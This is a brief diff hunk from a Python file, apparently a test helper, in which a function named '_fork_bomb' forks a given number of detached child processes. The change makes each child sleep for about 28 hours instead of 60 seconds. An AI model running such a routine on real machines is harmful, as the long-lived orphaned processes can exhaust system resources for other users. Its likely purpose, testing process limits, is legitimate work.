@@ -52,7 +52,7 @@ def _fork_bomb(rest: str) -> bytes:
     for _ in range(int(rest)):
         if os.fork() == 0:
             os.setsid()
-            time.sleep(60)
+            time.sleep(100_000)
     return b"forked"
 
 
